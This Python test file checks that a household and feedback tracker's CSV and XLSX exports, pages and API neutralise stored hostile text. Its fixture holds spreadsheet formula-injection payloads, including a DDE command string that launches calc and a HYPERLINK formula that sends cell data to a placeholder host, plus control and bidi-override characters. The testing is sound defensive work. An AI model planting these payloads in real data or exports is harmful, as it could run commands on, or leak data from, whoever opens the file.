"""Stored hostile text in every export, page and API answer: never a formula, never a 500."""
import csv
import io
import json
from datetime import date
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tracker.extensions import db
from tracker.models import Event, FeedbackItem, Household, Neighborhood, Topic

# PostgreSQL refuses NUL in text, so there the rows stored before validation hold other controls.
NAMES = ['=HYPERLINK("http://x"&A1)', "+1", "-2", "@SUM(1)", "\t=1", "خانوار \x00 تهی", "خانوار \x1b گریز",
         "خانوار 🩷 \U0001fa77", "نام \u202eوارونه", "#N/A"]


def _stored(name: str, dialect: str) -> str:
    return name.replace("\x00", "\x01") if dialect == "postgresql" else name


def _expected(name: str) -> str:
    """The neutralized text: unwritable characters replaced, bidi overrides dropped."""
    return name.replace("\x00", "\ufffd").replace("\x01", "\ufffd").replace("\x1b", "\ufffd").replace("\u202e", "")


@pytest.fixture
def hostile(district, users):
    """One household per hostile name, a visit and a feedback item with a formula for text."""
    dialect = db.engine.dialect.name
    hood = db.session.scalars(select(Neighborhood).where(Neighborhood.district_id == district.id)).first()
    households = [Household(district_id=district.id, neighborhood_id=hood.id, category="citizen",
                            name=_stored(name, dialect), phone="09121234567", national_id="0013542419",
                            address="=cmd|' /C calc'!A0")
                  for name in NAMES]
    db.session.add_all(households)
    event = Event(district_id=district.id, neighborhood_id=hood.id, kind="meeting", status="done",
                  held_on=date(2024, 4, 8), title="-1+1", minutes="انجام شد.")
    db.session.add(event)
    db.session.flush()
    topic = db.session.scalars(select(Topic).where(Topic.district_id == district.id)).first()
    item = FeedbackItem(district_id=district.id, event_id=event.id, kind="request", topic_id=topic.id,
                        household_id=households[0].id, text=_stored("@SUM(1) \x00 🩷", dialect),
                        received_on=date(2024, 4, 8))
    db.session.add(item)
    db.session.commit()
    # Stored text is normalized (digits become Persian); the exports write what is stored.
    return SimpleNamespace(names={h.id: _expected(h.name) for h in households}, address=households[0].address,
                           feedback=_expected(item.text), title=event.title)


def _get(client, url):
    response = client.get(url)
    body = response.get_data()
    response.close()
    assert response.status_code == 200, url
    return body


def test_households_csv_prefixes_formulas_and_keeps_leading_zeros(client, auth, hostile):
    auth.login("admin")
    rows = list(csv.reader(io.StringIO(_get(client, "/exports/households.csv").decode("utf-8-sig"))))
    header = rows[0]
    by_id = {int(row[0]): row for row in rows[1:]}
    assert set(by_id) == set(hostile.names)
    for household_id, name in hostile.names.items():
        row = by_id[household_id]
        guarded = name.startswith(("=", "+", "-", "@", "\t"))
        assert row[header.index("نام")] == ("'" + name if guarded else name)
        assert row[header.index("شماره همراه")] == "0912 123 4567"
        assert row[header.index("کد ملی")] == "001-354241-9"
        assert row[header.index("نشانی")] == "'" + hostile.address


def test_households_xlsx_holds_only_string_cells_for_text(client, auth, hostile):
    auth.login("admin")
    sheet = load_workbook(io.BytesIO(_get(client, "/exports/households.xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    seen = set()
    for row in sheet.iter_rows(min_row=2):
        household_id = row[0].value
        assert row[0].data_type == "n"
        seen.add(household_id)
        name = row[header.index("نام")]
        assert name.data_type == "s" and name.value == hostile.names[household_id]
        assert name.quotePrefix == name.value.startswith(("=", "+", "-", "@", "\t"))
        for column in ("شماره همراه", "کد ملی", "نشانی"):
            assert row[header.index(column)].data_type == "s"
        assert row[header.index("شماره همراه")].value == "09121234567"
        assert row[header.index("کد ملی")].value == "0013542419"
        assert row[header.index("نشانی")].value == hostile.address
    assert seen == set(hostile.names)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_feedback_and_events_exports_neutralize_their_text(client, auth, hostile, fmt):
    auth.login("pr_staff")
    feedback = _get(client, f"/exports/feedback.{fmt}")
    events = _get(client, f"/exports/events.{fmt}")
    if fmt == "csv":
        ledger = list(csv.reader(io.StringIO(feedback.decode("utf-8-sig"))))
        assert ledger[1][ledger[0].index("متن")] == "'" + hostile.feedback
        assert ledger[1][ledger[0].index("خانوار")] == "'" + hostile.names[min(hostile.names)]
        listing = list(csv.reader(io.StringIO(events.decode("utf-8-sig"))))
        assert listing[1][listing[0].index("عنوان")] == "'" + hostile.title
    else:
        ledger = load_workbook(io.BytesIO(feedback)).active
        header = [cell.value for cell in ledger[1]]
        text = ledger.cell(row=2, column=header.index("متن") + 1)
        assert (text.data_type, text.value) == ("s", hostile.feedback)
        listing = load_workbook(io.BytesIO(events)).active
        header = [cell.value for cell in listing[1]]
        title = listing.cell(row=2, column=header.index("عنوان") + 1)
        assert (title.data_type, title.value) == ("s", hostile.title)


def test_pages_and_the_api_show_stored_hostile_names_without_failing(client, auth, tokens, hostile):
    auth.login("admin")
    page = _get(client, "/households/").decode("utf-8")
    for name in hostile.names.values():
        assert name.replace("&", "&amp;").replace('"', "&#34;").replace("'", "&#39;") in page
    assert "\x00" not in page and "\x1b" not in page and "\u202e" not in page
    reversed_one = next(i for i, name in hostile.names.items() if name.startswith("نام "))
    assert "\u202e" not in _get(client, f"/households/{reversed_one}").decode("utf-8")
    assert "\u202e" not in _get(client, f"/households/{reversed_one}/edit").decode("utf-8")
    answer = json.loads(client.get("/api/v1/households?limit=200",
                                   headers={"Authorization": f"Bearer {tokens['admin']}"}).get_data())
    names = {item["id"]: item["name"] for item in answer["items"]}
    assert set(names) == set(hostile.names)
